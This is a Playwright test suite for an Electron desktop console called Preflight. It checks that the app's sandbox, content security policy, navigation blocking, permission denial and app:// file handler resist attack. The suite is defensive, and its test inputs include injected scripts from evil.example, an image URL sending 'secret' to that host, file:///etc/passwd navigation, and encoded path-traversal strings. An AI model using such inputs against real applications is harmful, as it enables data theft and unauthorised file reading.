import { spawn } from "node:child_process";
import { once } from "node:events";
import { join } from "node:path";
import { expect } from "@playwright/test";
import { test, type ConsoleUnderTest } from "./console.ts";
import { chooseTool, startSample } from "./walk.ts";

/** The main process, for looking inside. */
const inMain = ({ electron }: ConsoleUnderTest) => {
  if (electron === undefined) throw new Error("not the desktop shell");
  return electron;
};

/** Puts markup or a script into the page as an injection would; answers the directives that were violated. */
const violations = (console: ConsoleUnderTest, tag: string, attributes: Record<string, string>, text = "") =>
  console.page.evaluate(
    async ([tag, attributes, text]) => {
      const heard: string[] = [];
      const told = new Promise<void>((resolve) => {
        document.addEventListener("securitypolicyviolation", (event) => {
          heard.push(event.effectiveDirective);
          resolve();
        });
      });
      const element = document.createElement(tag);
      try {
        for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
        if (text !== "") element.textContent = text;
      } catch {
        // Trusted types refuse already here, and tell it as a violation too.
      }
      document.body.append(element);
      await told;
      return heard;
    },
    [tag, attributes, text] as const,
  );

test("the page is sandboxed and isolated, and sees one object of ours", async ({ console }) => {
  const preferences = await inMain(console).evaluate(({ webContents }) =>
    // Not in the type declarations, but there for just this purpose.
    webContents
      .getAllWebContents()
      .map((each) => (each as unknown as { getLastWebPreferences(): object }).getLastWebPreferences()),
  );
  expect(preferences).toHaveLength(1);
  expect(preferences[0]).toMatchObject({
    sandbox: true,
    contextIsolation: true,
    nodeIntegration: false,
    webSecurity: true,
    webviewTag: false,
  });
  const seen = await console.page.evaluate(() => ({
    require: typeof (globalThis as { require?: unknown }).require,
    process: typeof (globalThis as { process?: unknown }).process,
    wire: Object.keys((globalThis as unknown as { preflightWire: object }).preflightWire).sort(),
    address: location.href,
  }));
  expect(seen).toEqual({
    require: "undefined",
    process: "undefined",
    wire: ["close", "onClose", "onMessage", "send"],
    address: "app://console/",
  });
});

test("an injected script, picture, frame or style sheet from elsewhere does not load", async ({ console }) => {
  const refused = "require-trusted-types-for";
  expect(await violations(console, "script", {}, "globalThis.injected = 1")).toContain(refused);
  expect(await violations(console, "script", { src: "https://evil.example/x.js" })).toContain(refused);
  expect(await violations(console, "script", { src: "data:text/javascript,globalThis.injected=1" })).toContain(refused);
  // Where trusted types have no say, the list of sources has.
  expect(await violations(console, "link", { rel: "modulepreload", href: "https://evil.example/x.js" })).toContain(
    "script-src-elem",
  );
  expect(await violations(console, "img", { src: "https://evil.example/?d=secret" })).toContain("img-src");
  expect(await violations(console, "iframe", { src: "https://evil.example/" })).toContain("frame-src");
  expect(await violations(console, "link", { rel: "stylesheet", href: "https://evil.example/x.css" })).toContain(
    "style-src-elem",
  );
  expect(await violations(console, "audio", { src: "https://evil.example/x.mp3" })).toContain("media-src");
  expect(await console.page.evaluate(() => (globalThis as { injected?: unknown }).injected)).toBeUndefined();
});

test("the page itself violates nothing, from its start to a tool on screen", async ({ console }) => {
  const { page } = console;
  const heard: string[] = [];
  await page.exposeFunction("violated", (said: string) => heard.push(said));
  await page.addInitScript(() => {
    document.addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI, sourceFile }) => {
      const { violated } = globalThis as unknown as { violated(said: string): void };
      violated(`${effectiveDirective} ${blockedURI} ${sourceFile}`);
    });
  });
  await page.reload();
  await startSample(page, "Customer success");
  await chooseTool(page, "get_account_status");
  expect(heard).toEqual([]);
});

test("the page cannot leave, open windows or attach a webview", async ({ console }) => {
  const { page } = console;
  const electron = inMain(console);
  await expect(page.getByRole("navigation").first()).toBeVisible();
  await page.evaluate(() => {
    for (const address of ["https://evil.example/", "file:///etc/passwd", "app://elsewhere/", "data:text/html,x"]) {
      const link = document.createElement("a");
      link.href = address;
      link.target = "_top";
      document.body.append(link);
      link.click();
      const other = link.cloneNode() as HTMLAnchorElement;
      other.target = "_blank";
      document.body.append(other);
      other.click();
    }
    location.assign("https://evil.example/");
  });
  expect(await page.evaluate(() => open("https://evil.example/"))).toBeNull();
  await page.evaluate(() => {
    const webview = document.createElement("webview");
    webview.setAttribute("src", "https://evil.example/");
    document.body.append(webview);
  });
  // A round trip through both processes comes after everything that was asked for above.
  const contents = await electron.evaluate(({ webContents }) =>
    webContents.getAllWebContents().map((each) => each.getURL()),
  );
  expect(contents).toEqual(["app://console/"]);
  // Playwright itself waits for the end of a navigation that was denied, so the page is looked at from outside.
  const rails = await electron.evaluate(({ webContents }) =>
    webContents.getAllWebContents()[0]?.executeJavaScript("document.querySelectorAll('nav').length"),
  );
  expect(rails).toBe(1);
});

test("no permission is granted, whatever the page asks for", async ({ console }) => {
  const granted = await console.page.evaluate(async () => {
    const names = [
      "geolocation",
      "notifications",
      "midi",
      "camera",
      "microphone",
      "clipboard-read",
      "persistent-storage",
    ];
    const states = await Promise.all(
      names.map(async (name) => {
        const status = await navigator.permissions.query({ name: name as PermissionName }).catch(() => undefined);
        return `${name}: ${status?.state ?? "unknown"}`;
      }),
    );
    const asked = await Promise.allSettled([
      navigator.mediaDevices.getUserMedia({ audio: true }),
      navigator.mediaDevices.getDisplayMedia(),
      navigator.requestMIDIAccess({ sysex: true }),
      navigator.clipboard.readText(),
      new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(resolve, reject)),
      Notification.requestPermission().then((state) =>
        state === "granted" ? state : Promise.reject(new Error(state)),
      ),
    ]);
    return { states: states.filter((state) => state.endsWith("granted")), asked: asked.map(({ status }) => status) };
  });
  expect(granted).toEqual({ states: [], asked: Array.from({ length: 6 }, () => "rejected") });
});

test("app:// answers the page's own files and nothing beside them", async ({ console }) => {
  const ask = (address: string) =>
    inMain(console).evaluate(async ({ net }, address) => {
      const answer = await net.fetch(address).catch(() => undefined);
      return answer?.status ?? "refused";
    }, address);
  expect(await ask("app://console/")).toBe(200);
  expect(await ask("app://console/index.html")).toBe(200);
  expect(await ask("app://console/nowhere.js")).toBe(404);
  for (const address of [
    "app://console/../../package.json",
    "app://console/%2e%2e/%2e%2e/package.json",
    "app://console/..%2f..%2fpackage.json",
    "app://console/..%5c..%5cpackage.json",
    "app://console/assets/%00.js",
    "app://console//etc/passwd",
    "app://console/etc/passwd",
    "app://user@console/index.html",
    "app://elsewhere/index.html",
  ])
    expect([400, 404, "refused"], address).toContain(await ask(address));
  const headers = await console.page.evaluate(async () => Object.fromEntries((await fetch("/index.html")).headers));
  expect(headers["content-security-policy"]).toContain("default-src 'none'");
  expect(headers["content-security-policy"]).not.toContain("unsafe-eval");
  expect(headers["x-content-type-options"]).toBe("nosniff");
});

test("a frame inside the page is not heard, and has no wire", async ({ console }) => {
  const inFrame = await console.page.evaluate(async () => {
    const frame = document.createElement("iframe");
    const loaded = new Promise((resolve) => frame.addEventListener("load", resolve));
    frame.src = "about:blank";
    document.body.append(frame);
    await loaded;
    return typeof (frame.contentWindow as unknown as { preflightWire?: unknown }).preflightWire;
  });
  expect(inFrame).toBe("undefined");
  const refused = await inMain(console).evaluate(({ webContents }) => {
    const [contents] = webContents.getAllWebContents();
    const frame = contents?.mainFrame.frames[0];
    const heard: string[] = [];
    const write = process.stderr.write.bind(process.stderr);
    process.stderr.write = ((text: string) => (heard.push(text), true)) as typeof process.stderr.write;
    contents?.ipc.emit("preflight:to-core", { senderFrame: frame }, { type: "open" });
    contents?.ipc.emit("preflight:to-core", { senderFrame: null }, { type: "open" });
    contents?.ipc.emit("preflight:to-core", { senderFrame: contents.mainFrame }, { type: "nonsense" });
    process.stderr.write = write;
    return heard;
  });
  expect(refused.filter((line) => line.includes("refused a message"))).toHaveLength(3);
});

test("a second start on the same data hands over to the first and ends", async ({ console }) => {
  const electron = inMain(console);
  const executable = await electron.evaluate(() => process.execPath);
  const second = spawn(executable, [join(import.meta.dirname, "../.."), "--no-sandbox", "--disable-gpu"], {
    env: { ...process.env, PREFLIGHT_HOME: console.home },
    stdio: "ignore",
  });
  const [code] = (await once(second, "exit")) as [number];
  expect(code).toBe(0);
  expect(await electron.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows().length)).toBe(1);
});

test("a page that crashed comes back", async ({ console }) => {
  const electron = inMain(console);
  const back = electron.evaluate(
    ({ webContents }) =>
      new Promise<void>((resolve) => {
        const [contents] = webContents.getAllWebContents();
        contents?.once("did-finish-load", () => resolve());
        contents?.forcefullyCrashRenderer();
      }),
  );
  await back;
  const title = await electron.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows()[0]?.getTitle());
  expect(title).toContain("Preflight");
});
